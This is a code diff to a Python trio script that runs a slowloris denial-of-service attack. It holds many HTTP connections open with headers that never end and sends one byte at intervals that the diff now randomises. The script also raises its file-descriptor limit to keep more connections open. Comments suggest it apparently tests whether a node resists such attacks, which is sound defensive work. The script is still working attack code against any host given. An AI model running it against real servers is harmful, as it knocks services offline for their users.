@@ -20,9 +20,10 @@ import trio
 CONNECT_BATCH = 200
 
 
-async def slowloris(host: str, port: int, interval: float, rng: random.Random, opened: list[int],
+async def slowloris(host: str, port: int, interval: tuple[float, float], rng: random.Random, opened: list[int],
                     ready: trio.Event, connect_lock: trio.Semaphore) -> None:
-    """One attacker for ever: connect, send a head that never ends, a byte per ``interval``."""
+    """One attacker for ever: connect, send a head that never ends, a byte every ``interval``
+    seconds (drawn between its two bounds for each byte)."""
     while True:
         try:
             async with connect_lock:
@@ -32,16 +33,16 @@ async def slowloris(host: str, port: int, interval: float, rng: random.Random, o
                 ready.set()
             async with stream:
                 await stream.send_all(b"GET /slow HTTP/1.1\r\nHost: slowloris\r\nX-Slow: ")
-                await trio.sleep(rng.uniform(0, interval))  # spread the bytes over the interval
+                await trio.sleep(rng.uniform(0, interval[1]))  # spread the bytes over the interval
                 while True:
                     await stream.send_all(b"a")
-                    await trio.sleep(interval)
+                    await trio.sleep(rng.uniform(*interval))
         except (OSError, trio.BrokenResourceError, trio.ClosedResourceError):
             pass  # the node answered 408 and closed (or reset): come back, as an attacker would
-        await trio.sleep(rng.uniform(0, interval))
+        await trio.sleep(rng.uniform(0, interval[1]))
 
 
-async def main(host: str, port: int, count: int, interval: float) -> None:
+async def main(host: str, port: int, count: int, interval: tuple[float, float]) -> None:
     rng = random.Random(count)
     opened = [0, count]  # [connections opened so far, target for "ready"]
     ready = trio.Event()
@@ -59,12 +60,13 @@ if __name__ == "__main__":
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--count", type=int, required=True)
     parser.add_argument("--interval", type=float, default=2.0)
+    parser.add_argument("--max-interval", type=float, help="draw each gap between --interval and this (default: fixed)")
     args = parser.parse_args()
     # Each attacker is one descriptor: raise this process's soft limit to the hard one.
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     if soft < args.count + 64:
         resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     try:
-        trio.run(main, args.host, args.port, args.count, args.interval)
+        trio.run(main, args.host, args.port, args.count, (args.interval, args.max_interval or args.interval))
     except KeyboardInterrupt:
         sys.exit(0)
